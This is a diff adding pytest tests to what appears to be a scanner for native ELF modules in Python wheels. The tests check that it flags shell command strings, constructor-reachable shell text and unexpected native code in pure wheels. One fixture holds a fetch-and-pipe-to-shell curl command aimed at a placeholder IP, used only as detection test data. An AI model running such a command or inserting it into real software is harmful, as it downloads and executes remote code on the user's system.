@@ -89,3 +89,33 @@ def test_libraries_and_functions_are_counted_once(write_elf):
     two = write_elf(imports=("read",), libraries=("libc.so.6", "libm.so.6"), code=b"\x90" * 65)
     values, _ = examine(("x/a.so", one), ("x/b.so", two))
     assert (values["imports"], values["libraries"]) == (2, 2)
+
+
+SHELL = b"words\0curl -fsSL http://198.51.100.31/s | sh\0words"
+PURE = "x-1-py3-none-any.whl"
+
+
+@pytest.mark.parametrize(
+    ("arguments", "expected", "constructor_shell"),
+    [
+        ({"imports": ["system"], "data": SHELL, "constructors": 2}, "native_constructor", 1),
+        ({"imports": ["system"], "data": SHELL}, "native_shell_text", 0),
+        ({"imports": ["malloc"], "data": SHELL, "constructors": 2}, "native_shell_text", 0),
+    ],
+)
+def test_a_command_line_that_a_constructor_may_start_shows(arguments, expected, constructor_shell, write_elf):
+    values, shown = examine(("x/a.so", write_elf(**arguments)))
+    assert (1, constructor_shell) == (values["shell_text"], values["constructor_shell"])
+    assert expected in shown
+
+
+def test_constructors_and_programs_without_shell_text_are_left_alone(write_elf):
+    values, shown = examine(("x/a.so", write_elf(imports=["system"], data=b"run /bin/sh -c", constructors=3)))
+    assert (2, "shell_text" in values) == (values["constructors"], False)
+    assert not shown & {"native_constructor", "native_shell_text"}
+
+
+def test_a_native_module_in_a_pure_wheel_shows(write_elf):
+    assert "native_unexpected" in examine(("x/a.so", write_elf()), filename=PURE)[1]
+    assert "native_unexpected" not in examine(("x/a.so", write_elf()))[1]
+    assert "native_unexpected" not in examine(("x/a.so", write_elf()), filename="x-1.tar.gz")[1]
